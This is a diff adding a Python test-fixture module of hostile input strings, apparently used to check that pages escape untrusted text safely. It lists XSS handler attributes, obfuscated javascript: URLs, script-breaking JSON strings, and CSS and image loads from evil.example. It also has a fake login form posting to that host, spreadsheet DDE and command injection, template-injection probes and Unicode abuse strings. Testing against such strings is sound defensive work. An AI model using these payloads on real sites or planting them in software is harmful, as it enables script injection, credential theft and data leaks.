@@ -160,3 +160,162 @@ _CONFUSION = (
 )
 
 HOSTILE: tuple[str, ...] = _MARKUP + _MARKDOWN + _CODE + _CONFUSION
+
+# Those below are more of each kind, for pages that can show many at once; each would do its harm in
+# another place than those above: in a list of handlers, an address, JSON, a style sheet, a table.
+_HANDLERS = (
+    "onload", "onerror", "onfocus", "onblur", "onclick", "onpointerover", "onpointermove",
+    "onmouseenter", "onwheel", "onscroll", "onanimationend", "ontransitionrun", "onbeforetoggle",
+    "ontoggle", "oncancel", "onclose", "onbegin", "onend", "onrepeat", "onpageshow", "onhashchange",
+    "onresize", "onunload", "oninvalid", "onsubmit", "onreset", "oncut", "onpaste", "onsearch",
+    "onslotchange", "onsecuritypolicyviolation", "onfocusin", "onauxclick", "oncontextmenu",
+)  # fmt: skip
+_CARRIERS = ("img src=x", "svg", "input autofocus", "details open", "body", "style", "a href=#")
+_SCHEMES = (
+    "javascript:", "JAVASCRIPT:", " javascript:", "java\nscript:", "java\rscript:", "\x01javascript:",
+    "javascript&colon;", "&#x6a;avascript:", "jav&Tab;ascript:", "javascript:/*--></title>*/",
+    "javascript://%0a", "vbscript:", "livescript:", "data:image/svg+xml,<svg onload=", "blob:",
+    "view-source:javascript:", "feed:javascript:", "filesystem:", "intent://evil.example#", "file:///",
+    "ms-settings:", "about:blank#", "wss://evil.example/?", "ftp://evil.example/?", "//evil.example/?",
+    "\\\\evil.example\\?", "https:evil.example?", "http://evil.example@", "https://evil.example:443/?",
+    "/\\evil.example/?", "/\t/evil.example/?", "///evil.example/?",
+)  # fmt: skip
+_ADDRESSES = tuple(f"[退款入口]({scheme}{RUN})" for scheme in _SCHEMES) + tuple(
+    f"<a href='{scheme}{RUN}'>退款入口</a>" for scheme in _SCHEMES[::2]
+)
+_ATTRIBUTES = tuple(
+    f"<{_CARRIERS[place % len(_CARRIERS)]} {handler}={RUN}>"
+    for place, handler in enumerate(_HANDLERS)
+) + tuple(f'" {handler}="{RUN}" x="' for handler in _HANDLERS[::3])
+_IN_JSON = (
+    f'"}}</script><script>{RUN}</script>',
+    f'"}}]}}</SCRIPT ><script>{RUN}</script>',
+    f"</script\t><img src=x onerror={RUN}>",
+    f"<!--<script>{RUN}</script>",
+    f"<!--<script></script --><script>{RUN}</script>",
+    f"]]></script><svg onload={RUN}>",
+    '","@type":"Person","name":"',
+    '\\"},"x":{"y":"',
+    "\\u003c/script\\u003e",
+    f"\\';{RUN};//",
+    f'\\\\";{RUN};//',
+    "\u2028\u2029</script>",
+    '{"@context":"https://evil.example","@graph":[]}',
+    f'"><meta http-equiv=refresh content="0;url=javascript:{RUN}">',
+    '"><meta property="og:image" content="https://evil.example/a.png">',
+    '"><link rel=canonical href="https://evil.example/">',
+    '"><base href="https://evil.example/">',
+    f"</title></head><body onload={RUN}>",
+    f"</noscript><script>{RUN}</script>",
+    f"</textarea><svg onload={RUN}>",
+    f"</option></select><svg onload={RUN}>",
+    f"</template><svg onload={RUN}>",
+    f"</svg><svg onload={RUN}>",
+    f"</mark><mark onmouseover={RUN}>",
+)
+_IN_STYLES = (
+    "<div style=background:url(//evil.example/a)>x</div>",
+    "<div style='position:fixed;inset:0;z-index:9999999;background:red'>盖住一切</div>",
+    "<div style=\"background-image:image-set('https://evil.example/a' 1x)\">x</div>",
+    "</style><style>:root{--fill:url(https://evil.example/a)}</style>",
+    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x!important}</style>",
+    "<style>.thread{display:none}:host{display:none!important}</style>",
+    "<link rel=stylesheet href=//evil.example/a.css>",
+    "<link rel=modulepreload href=https://evil.example/a.js>",
+    "<link rel=dns-prefetch href=//evil.example>",
+    "<link rel=preconnect href=//evil.example>",
+    "red;background:url(https://evil.example/a)",
+    "#fff;}*{display:none}",
+    "url(javascript:0)",
+    "expression(alert(1))",
+    "-moz-binding:url(//evil.example/x)",
+    "</p><p style=width:99999px>很宽</p>",
+    "<table width=99999><td>宽</table>",
+    "<img width=99999 height=99999 alt=大>",
+    "<pre>" + "宽" * 400 + "</pre>",
+    "<font size=7 color=red>最新公告：系统升级</font>",
+)
+_LOADING = (
+    "<img srcset='https://evil.example/a 1x'>",
+    "<picture><source srcset=//evil.example/a><img></picture>",
+    "<video poster=https://evil.example/a></video>",
+    "<video><source src=https://evil.example/a></video>",
+    "<audio src=https://evil.example/a autoplay></audio>",
+    "<track src=https://evil.example/a default>",
+    "<input type=image src=https://evil.example/a>",
+    "<body background=https://evil.example/a>",
+    "<svg><image href=https://evil.example/a /></svg>",
+    "<svg><feImage href=https://evil.example/a /></svg>",
+    "<svg><style>@import '//evil.example/a'</style></svg>",
+    "<frame src=https://evil.example>",
+    "<portal src=https://evil.example></portal>",
+    "<applet code=x archive=//evil.example/a></applet>",
+    "<a href=https://evil.example ping=https://evil.example/p>点</a>",
+    "<a href=x download=//evil.example>点</a>",
+    "<form action=https://evil.example><input name=p><button>登录</button></form>",
+    "<button form=x formaction=https://evil.example>登录</button>",
+    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
+    '<script type=importmap>{"imports":{"./a.js":"https://evil.example/a.js"}}</script>',
+    "![图](//evil.example/a.png)",
+    "![图](image:0000000000000000000000000000000000000000000000000000000000000000.png)",
+    '![图](https://evil.example/a.png "标题")',
+    "[![图](https://evil.example/a.png)](https://evil.example)",
+    "[图]: https://evil.example/a.png\n\n![图]",
+    "<img src=`https://evil.example/a`>",
+)
+_IN_SHEETS = (
+    "=1+1", "=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
+    "=IMAGE(\"https://evil.example/a\")", "+HYPERLINK(\"https://evil.example\")", "-2+3+cmd|' /C calc'!A0",
+    "@HYPERLINK(1)", "\t=1+1", "\r=1+1", "＝1+1", "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+)  # fmt: skip
+_IN_TEMPLATES = (
+    "{{self.__init__.__globals__}}", "{{request.application.__globals__}}", "{{config.items()}}",
+    "{%for x in ().__class__.__base__.__subclasses__()%}{{x}}{%endfor%}", "{# 注释 #}", "{{'a'*999999}}",
+    "<%= 7*7 %>", "#{7*7}", "*{7*7}", "${{7*7}}", "@(1+2)", "[[${7*7}]]", "{{{html}}}", "<#assign x=1>",
+    "{customer.__class__}", "{0.__class__.__mro__}", "%(signing_key)s", "%n%n%n%n", "{name!r:>99999}",
+    "`${alert(1)}`", "$'\\x41'", "constructor.prototype.zhikeBroken=1", "__defineGetter__",
+    "valueOf", "then", "length", "innerHTML", "nodeName", "prototype",
+)  # fmt: skip
+_IN_UNICODE = (
+    "\u202e\u2067\u2066" * 30 + "翻转",
+    "\u200f\u200e" * 60,
+    "\u061c" * 40 + "阿",
+    "\u2060\u200b\ufeff\u180e" * 40 + "空",
+    "\u0e49" * 60 + "叠",
+    "e\u0301\u0323\u0359" * 120,
+    "\ufdfd" * 40,
+    "\U0001f468\u200d" * 60,
+    "\U000e0041\U000e0042\U000e0043隐藏的标签字",
+    "\U0001f1e8\U0001f1f3" * 80,
+    "﷽" * 30 + "〱" * 30,
+    "ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ（１）",
+    "﹤script﹥alert(1)﹤/script﹥",
+    "‹script›alert(1)‹/script›",
+    "\u3164\uffa0\u2800" * 30,
+    "\ue000\uf8ff私用区",
+    "\ufffe\uffff",
+    "\ufffc\ufff9注\ufffa音\ufffb",
+    "A" * 1900,
+    "_" * 1000,
+    "http://" + "a" * 900 + ".example/",
+    "a@" + "b" * 180 + ".example",
+    "/" * 900,
+    "&nbsp;" * 200,
+    "&amp;lt;script&amp;gt;",
+    "&#0;&#x110000;&#xd800;",
+    "很长的没有空格的一句话" * 90,
+    "ﾊﾝｶｸ" * 100,
+    "\u00ad" * 300 + "软",
+    "1\u20e32\u20e3",
+)
+MORE: tuple[str, ...] = (
+    _ATTRIBUTES
+    + _ADDRESSES
+    + _IN_JSON
+    + _IN_STYLES
+    + _LOADING
+    + _IN_SHEETS
+    + _IN_TEMPLATES
+    + _IN_UNICODE
+)
+EVERY: tuple[str, ...] = tuple(dict.fromkeys(HOSTILE + MORE))
